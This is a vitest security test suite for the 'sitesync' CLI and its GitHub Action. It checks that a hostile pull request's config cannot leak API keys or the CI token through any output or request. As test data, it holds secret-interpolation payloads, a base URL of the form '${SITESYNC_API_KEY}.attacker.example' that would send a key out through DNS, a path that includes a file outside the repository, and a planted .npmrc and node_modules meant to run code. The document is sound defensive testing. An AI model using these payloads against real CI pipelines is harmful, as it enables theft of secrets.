/**
 * A pull request's author writes the file that the CI plans with every key in hand. Each case
 * here is such a file, planned as the action plans a pull request (the base branch's copy
 * trusted), and run through the CLI's outputs: no output (text, markdown, JSON, --verbose,
 * validate's annotations, the job summary, the comment posted to the fake GitHub, the saved plan)
 * and no request (path, query, body; any header to any host but the trusted one) may hold a
 * secret. The README's Security section promises this.
 */
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { readFile, rm, symlink, writeFile, mkdir } from 'node:fs/promises';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startEmulator, type Emulator } from '../../src/emulator/index.js';
import { runCli, runCliHere } from '../helpers/cli.js';
import { startCliServer, type CliServer } from '../helpers/cli-server.js';
import { GITHUB_TOKEN, startElsewhere, startFakeGitHub, type FakeGitHub } from './fake-github.js';
import { pullRequestCheckout } from './pull-request-repo.js';
import { runAction } from './run-action.js';

const KEY = 'sk-live-HOSTILE-KEY-0123456789';
const ACME = 'sk-live-ACME-KEY-9876543210';
const PASSWORD = 'pw-SHOP-secret-42';
const OUTSIDE = 'ghp_SECRET3_outside_the_repository';
const GLOBEX = 'sk-live-GLOBEX-KEY-5555555555';
const SECRETS = [KEY, ACME, PASSWORD, GITHUB_TOKEN, OUTSIDE, GLOBEX, KEY.toLowerCase()];

let emu: Emulator;
let github: FakeGitHub;
let elsewhere: Awaited<ReturnType<typeof startElsewhere>>;
let dir: string;
let origin: string | undefined;
/** Every request the trusted service got: method, path with query, body. */
let seen: string[];
// The action's CLI runs in this process (cli-server.ts): what it prints and sends is the same.
let cli: CliServer;
beforeAll(async () => {
  cli = await startCliServer();
});
afterAll(() => cli.close());

beforeEach(async () => {
  emu = await startEmulator({ keys: [KEY, ACME] });
  emu.seed(KEY, [{ domain: 'shop.example.com', privacy: 0, email: 0, exclude_bots: 1 }]);
  seen = [];
  emu.faults.before = (req) => {
    seen.push(`${req.method} ${req.path}?${req.query} ${req.body ?? ''}`);
    return undefined;
  };
  github = await startFakeGitHub();
  elsewhere = await startElsewhere();
  const top = await mkdtemp(join(tmpdir(), 'sitesync-hostile-'));
  dir = join(top, 'repo');
  await mkdir(dir);
  // A file outside the repository, holding a secret: no include may read it.
  await mkdir(join(top, 'outside'));
  await writeFile(join(top, 'outside/clients.yaml'), `websites:\n  - domain: x.example.com\n    privacy: ${OUTSIDE}\n`);
  await writeFile(join(dir, 'pr-event.json'), JSON.stringify({ pull_request: { number: 7 } }));
});
afterEach(async () => {
  await emu.close();
  await github.close();
  await elsewhere.close();
  await rm(join(dir, '..'), { recursive: true, force: true });
  if (origin) await rm(origin, { recursive: true, force: true });
  origin = undefined;
});

const ENV = () => ({ SITESYNC_BASE_URL: '', SITESYNC_API_KEY: KEY, sitesync_api_key: KEY.toLowerCase(), ACME_STATS_KEY: ACME, GLOBEX_STATS_KEY: GLOBEX, SHOP_PW: PASSWORD, GITHUB_BASE_REF: 'main' });
/** The trusted service's address, filled in when the files are written (the emulator starts per test). */
const TRUSTED = '@TRUSTED@';
const single = (lines: string[]) => ['version: 1', 'api:', `  base_url: ${TRUSTED}`, ...lines, ''].join('\n');
const withUrl = (files: Record<string, string>) => Object.fromEntries(Object.entries(files).map(([k, v]) => [k, v.replaceAll(TRUSTED, emu.url)]));
const shop = (extra: string[] = []) => ['websites:', '  - domain: shop.example.com', ...extra];

/** Every place a secret could show: the action's log, the comment and every request to GitHub, the job summary, the saved plan, every request to the service. */
async function everything(log: string): Promise<string> {
  const files = await Promise.all(['summary.md'].map((f) => readFile(join(dir, f), 'utf8').catch(() => '')));
  // GitHub's requests carry its token in their header, where it belongs: their paths and bodies must not.
  const toGitHub = github.requests.map((r) => `${r.method} ${r.url} ${JSON.stringify(r.body ?? '')}`);
  return [log, ...toGitHub, ...files, ...seen].join('\n');
}

function expectNoSecret(text: string): void {
  for (const secret of SECRETS) expect(text).not.toContain(secret);
}

/** The pull request's file planned as the action plans it, the base branch's copy trusted. */
async function planPullRequest(change: Record<string, string>, base: Record<string, string> = { 'sitesync.yaml': single(shop()) }) {
  origin = await pullRequestCheckout(dir, withUrl(base), withUrl(change));
  const r = await runAction({ dir, githubApi: github.url, actionPath: cli.dir }, { command: 'plan', comment: 'true' }, 'pr-event.json', ENV());
  const planJson = r.outputs['plan-json'] ? await readFile(r.outputs['plan-json'], 'utf8') : '';
  return { ...r, all: `${await everything(r.log)}\n${planJson}` };
}

const REFUSED: [string, Record<string, string>][] = [
  ['the key in exclude_params', { 'sitesync.yaml': single(shop(['    exclude_params: ["${SITESYNC_API_KEY}"]'])) }],
  ["the CI's token in exclude_ips", { 'sitesync.yaml': single(shop(['    exclude_ips: ["${GITHUB_TOKEN}"]'])) }],
  ['the key in a domain', { 'sitesync.yaml': single(['websites:', '  - domain: ${SITESYNC_API_KEY}.example.com']) }],
  ['the key in lower case', { 'sitesync.yaml': single(['websites:', '  - domain: ${sitesync_api_key}.example.com']) }],
  ['the key in defaults', { 'sitesync.yaml': single(['defaults:', '  exclude_params: ["${SITESYNC_API_KEY}"]', ...shop()]) }],
  ['the key through a double-quoted escape', { 'sitesync.yaml': single(shop(['    exclude_params: ["\\x24{SITESYNC_API_KEY}"]'])) }],
  ['the key in an included file', { 'sitesync.yaml': single(['include: [sites/*.yaml]', 'websites: []']), 'sites/shop.yaml': shop(['    exclude_params: ["${SITESYNC_API_KEY}"]']).join('\n') }],
  ['the key as a password', { 'sitesync.yaml': single(shop(['    privacy: password', '    password: ${SITESYNC_API_KEY}'])) }],
  ["the CI's token as a password", { 'sitesync.yaml': single(shop(['    privacy: password', '    password: ${GITHUB_TOKEN}'])) }],
  ['a file outside the repository included', { 'sitesync.yaml': single(['include: ["../outside/*.yaml"]', ...shop()]) }],
];

describe('a hostile pull request, planned by the action', () => {
  it.each(REFUSED)('%s: refused at its line, nothing read from the service, no secret anywhere', async (_name, change) => {
    const r = await planPullRequest(change);
    expect(r.code).toBe(1);
    expect(r.log).toMatch(/::error file=[^,]+,line=\d+,col=\d+::/);
    expect(seen).toEqual([]);
    expectNoSecret(r.all);
  });

  it('the key URL-encoded is text, not a reference: planned as written, and still no secret anywhere', async () => {
    const r = await planPullRequest({ 'sitesync.yaml': single(shop(['    exclude_params: ["%24%7BSITESYNC_API_KEY%7D"]'])) });
    expect(r.code).toBe(0);
    expect(github.comments(7)[0]!.body).toContain('%24%7BSITESYNC_API_KEY%7D');
    expectNoSecret(r.all);
  });

  it.each([
    ['in its path', (url: string) => `${url}/\${SITESYNC_API_KEY}`],
    ['as its host (a DNS lookup would send it)', () => 'https://${SITESYNC_API_KEY}.attacker.example'],
  ])('the key in the base URL %s: refused before any request, and the trusted base URL is not changed', async (_name, baseUrl) => {
    const r = await planPullRequest({ 'sitesync.yaml': ['version: 1', 'api:', `  base_url: "${baseUrl(elsewhere.url)}"`, ...shop(), ''].join('\n') });
    expect(r.code).toBe(1);
    expect(r.log).toContain("api.base_url: ${NAME} is read from the environment only in a website's password");
    expect(seen).toEqual([]);
    expect(elsewhere.requests).toEqual([]);
    expectNoSecret(r.all);
  });

  it("the base URL moved to the author's host: refused before any request", async () => {
    const r = await planPullRequest({ 'sitesync.yaml': ['version: 1', 'api:', `  base_url: ${elsewhere.url}`, ...shop(), ''].join('\n') });
    expect(r.code).toBe(1);
    expect(r.log).toContain("api.base_url differs from the trusted config's");
    expect(elsewhere.requests).toEqual([]);
    expect(seen).toEqual([]);
    expectNoSecret(r.all);
  });

  it("an account added with another account's key variable and the author's host is not planned; the others are, and its key goes nowhere", async () => {
    const accounts = (extra: string[]) =>
      ['version: 1', 'accounts:', '  acme:', `    base_url: ${TRUSTED}`, '    api_key_env: ACME_STATS_KEY', '    websites:', '      - domain: acme.example.com', ...extra, ''].join('\n');
    const r = await planPullRequest(
      { 'sitesync.yaml': accounts(['  evil:', `    base_url: ${elsewhere.url}`, '    api_key_env: ACME_STATS_KEY', '    websites: []']) },
      { 'sitesync.yaml': accounts([]) },
    );
    expect(r.code).toBe(1);
    const body = github.comments(7)[0]!.body;
    expect(body).toContain('### Account `evil`: failed');
    expect(body).toContain('not planned until its connection is on the base branch');
    expect(body).toContain('### Account `acme`: 1 to create');
    expect(elsewhere.requests).toEqual([]);
    expectNoSecret(r.all);
  });

  it("an account removed, and its key variable made another account's website password: refused at its line by the trusted config's names", async () => {
    const acme = (site: string[]) => ['  acme:', `    base_url: ${TRUSTED}`, '    api_key_env: ACME_STATS_KEY', '    websites:', '      - domain: acme.example.com', ...site];
    const globex = ['  globex:', `    base_url: ${TRUSTED}`, '    api_key_env: GLOBEX_STATS_KEY', '    websites: []'];
    const file = (lines: string[]) => ['version: 1', 'accounts:', ...lines, ''].join('\n');
    const r = await planPullRequest(
      { 'sitesync.yaml': file(acme(['        privacy: password', '        password: ${GLOBEX_STATS_KEY}'])) },
      { 'sitesync.yaml': file([...acme([]), ...globex]) },
    );
    expect(r.code).toBe(1);
    expect(r.log).toMatch(/sitesync\.yaml:9:19: the password of acme\.example\.com is \$\{GLOBEX_STATS_KEY\}/);
    expect(r.log).toContain('the API key of account globex');
    expect(seen).toEqual([]);
    expectNoSecret(r.all);
  });
});

describe('a hostile file through every output of the CLI', () => {
  const outputs = [['plan'], ['plan', '--format', 'markdown'], ['plan', '--format', 'json'], ['--verbose', 'plan'], ['validate', '--format', 'github'], ['validate', '--format', 'json']];

  it.each(REFUSED.filter(([, change]) => Object.keys(change).length === 1))('%s', async (_name, change) => {
    await writeFile(join(dir, 'sitesync.yaml'), withUrl(change)['sitesync.yaml']!);
    for (const args of outputs) {
      const r = await runCliHere(args, { cwd: dir, env: { ...ENV(), GITHUB_BASE_REF: undefined } });
      expect(r.code, args.join(' ')).toBe(1);
      expectNoSecret(r.stdout + r.stderr);
    }
    expect(seen).toEqual([]);
  });

  it('two entries of accounts: for one account (its base URL written two ways, one key) are refused before any request', async () => {
    const url = new URL(emu.url);
    const file = ['version: 1', 'accounts:'];
    for (const [name, base] of [['one', `http://localhost:${url.port}/`], ['two', `http://127.0.0.1:${url.port}`]] as const) {
      file.push(`  ${name}:`, `    base_url: ${base}`, '    api_key_env: ACME_STATS_KEY', '    prune: true', '    websites: []');
    }
    await writeFile(join(dir, 'sitesync.yaml'), `${file.join('\n')}\n`);
    const r = await runCliHere(['apply', '--auto-approve', '--force'], { cwd: dir, env: { ACME_STATS_KEY: ACME } });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('accounts one and two use the same API key (ACME_STATS_KEY and ACME_STATS_KEY): they are one account; keep one entry for it');
    expect(seen).toEqual([]);
    expectNoSecret(r.stdout + r.stderr);
  });
});

describe("a pull request's folder is data: sitesync reads nothing of it but the config and the files it includes", () => {
  // A read of the pipe would wait for ever: the child is stopped after 90 s, which only a regression
  // waits out; a healthy run is a second or two, but may take 20 s and more beside a second suite.
  it('a package.json, an .npmrc or a node_modules of the pull request is not read (a package.json linked to /dev/zero took 17 GB and crashed)', { timeout: 200_000 }, async () => {
    // What runs is sitesync's own bundle, from the action's folder; the job's folder is the pull request's.
    await writeFile(join(dir, 'sitesync.yaml'), withUrl({ f: single(shop()) }).f!);
    // A pull request commits package.json as a link; to /dev/zero it is read without end. Here it
    // names a named pipe no one writes to, which a read would wait on for ever instead.
    execFileSync('mkfifo', [join(dir, 'fifo')]);
    await symlink(join(dir, 'fifo'), join(dir, 'package.json'));
    await writeFile(join(dir, '.npmrc'), 'node-options=--require ./pwn.cjs\n');
    await mkdir(join(dir, 'node_modules/picomatch'), { recursive: true });
    await writeFile(join(dir, 'node_modules/picomatch/index.js'), "require('fs').writeFileSync('PWNED', '');\n");
    await writeFile(join(dir, 'pwn.cjs'), "require('fs').writeFileSync('PWNED', '');\n");
    for (const args of [['validate'], ['plan', '--format', 'markdown']]) {
      const r = await runCli(args, { cwd: dir, env: { SITESYNC_API_KEY: KEY }, timeoutMs: 90_000 });
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
    }
    expect(existsSync(join(dir, 'PWNED'))).toBe(false);
  });
});
